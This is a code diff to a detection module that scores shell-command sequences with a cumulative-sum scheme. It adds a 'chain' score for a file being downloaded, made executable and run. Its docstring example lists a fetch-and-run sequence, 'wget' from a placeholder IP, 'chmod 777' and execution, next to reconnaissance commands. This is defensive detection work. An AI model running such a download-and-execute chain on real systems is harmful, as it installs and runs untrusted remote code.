@@ -7,12 +7,14 @@ counts once while it is remembered, and the sum is a naive Bayes over facts with
 ```
  facts 0 .. 11   looks   looking around: capped together, and worn down by every ordinary command (Page 1954)
  facts 12 .. 30  acts    doing something: each counts, worn down slowly
- beyond a fact   excess  what the command itself says beyond its facts (a scan of 254 hosts, not of 12): the largest
+ beyond a fact   excess  what the command itself says beyond its facts (a scan of 254 hosts, not of 12)
+ of some facts   chain   facts that are more together than one by one: a file brought in, made executable, run
 ```
 
-    level   uname   w   free   ls   cd   wget http://203.0.113.5/x   chmod 777 x   ./x
-     looks   0.5   1.9   2.6   2.3  2.0         2.0                       2.0       2.0
-     acts     -     -     -     -    -          2.4                       3.4       3.6
+             uname   w   free   ls   cd   wget http://203.0.113.5/x   chmod 777 x   ./x
+     looks    0.7   2.7   3.2  3.0  2.7         2.7                       2.7       2.7
+     acts      -     -     -    -    -          2.8                       3.5       4.1
+     chain     -     -     -    -    -           -                         -        2.4
 
 Page, E. S. (1954), Continuous inspection schemes, Biometrika 41: a sum of log-likelihood ratios that is held at zero.
 """
@@ -40,6 +42,7 @@ STATE: Final = np.dtype(
         ("looks", "f8"),
         ("acts", "f8"),
         ("excess", "f8"),
+        ("chain", "f8"),
         ("now", "u4"),  # facts seen since `turned`, one bit each
         ("before", "u4"),  # facts seen in the span before
         ("started", "u1"),
@@ -71,8 +74,13 @@ class FactSettings(msgspec.Struct, frozen=True):
         Meta(description="nats of each fact, in the order of the table FACTS", min_length=FACTS, max_length=FACTS),
     ] = (0.0,) * FACTS
     looks_cap: Annotated[float, Meta(description="nats, the most that looking around may say", ge=0)] = 4.0
-    looks_wear: Annotated[float, Meta(description="nats that an ordinary command takes from looking around", ge=0)] = 0.2
+    looks_wear: Annotated[float, Meta(description="nats that an ordinary command takes from looks", ge=0)] = 0.2
     acts_wear: Annotated[float, Meta(description="nats that an ordinary command takes from acts", ge=0)] = 0.02
+    chain_first: Annotated[int, Meta(description="bits of the facts that may begin a chain (a file is brought in)")] = 0
+    chain_then: Annotated[int, Meta(description="bits of the facts that may go on with it (it is made executable)")] = 0
+    chain_last: Annotated[int, Meta(description="bits of the facts that may end it (something is run)")] = 0
+    chain_two: Annotated[float, Meta(description="nats more when a beginning and an end came together", ge=0)] = 0.0
+    chain_three: Annotated[float, Meta(description="nats more when all three came together", ge=0)] = 0.0
     memory_s: Annotated[
         float, Meta(description="s, a fact counts again when it was not seen for one to two of these", gt=0)
     ] = 3600.0
@@ -105,6 +113,9 @@ def step(
     looks_cap = settings[0]["looks_cap"]
     looks_wear = settings[0]["looks_wear"]
     acts_wear = settings[0]["acts_wear"]
+    first = settings[0]["chain_first"]
+    then = settings[0]["chain_then"]
+    last = settings[0]["chain_last"]
     for i in range(ts.size):
         a = agent[i]
         if state[a]["started"] == 0:
@@ -118,6 +129,7 @@ def step(
             state[a]["looks"] *= fade
             state[a]["acts"] *= fade
             state[a]["excess"] *= fade
+            state[a]["chain"] *= fade
         since = ts[i] - state[a]["turned"]
         if since > memory:
             state[a]["before"] = state[a]["now"] if since <= 2.0 * memory else 0
@@ -143,11 +155,19 @@ def step(
                         acts += nats
         state[a]["looks"] = min(looks, looks_cap)
         state[a]["acts"] = min(acts, cap)
-        state[a]["excess"] = max(state[a]["excess"], weight[i] - known)
+        beyond = weight[i] - known
+        if facts & ~seen:
+            state[a]["excess"] = min(cap, state[a]["excess"] + max(0.0, beyond))
+        else:
+            state[a]["excess"] = max(state[a]["excess"], beyond)
         state[a]["now"] = np.int64(state[a]["now"]) | facts
-        total = state[a]["looks"] + state[a]["acts"] + state[a]["excess"]
+        seen |= facts
+        if facts & (first | then | last) and seen & first and seen & last:
+            more = settings[0]["chain_three"] if seen & then else settings[0]["chain_two"]
+            state[a]["chain"] = max(state[a]["chain"], more)
+        total = state[a]["looks"] + state[a]["acts"] + state[a]["excess"] + state[a]["chain"]
         strength[i] = min(cap, max(total, weight[i]))
         why[i]["own"] = weight[i]
         why[i]["sum"] = strength[i]
         why[i]["fact"] = facts
-        why[i]["seen"] = seen | facts
+        why[i]["seen"] = seen
